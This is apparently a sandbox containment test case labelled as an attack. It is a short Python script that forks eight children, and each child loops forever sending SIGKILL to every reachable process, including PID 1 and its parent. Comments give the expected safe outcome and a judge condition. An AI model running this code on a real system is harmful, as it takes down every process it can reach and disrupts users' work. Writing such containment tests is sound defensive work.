# ATTACK a17_kill_everything_twice
# TRIES: processes that kill everybody they can, again and again
# SAFE:  only the run's own die
# JUDGE: status!=ok nosurvivor
import os, signal
try:
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            while True:
                for target in (-1, 1, os.getppid(), 0):
                    try: os.kill(target, signal.SIGKILL)
                    except OSError: pass
except OSError: pass
os.kill(os.getpid(), signal.SIGKILL)
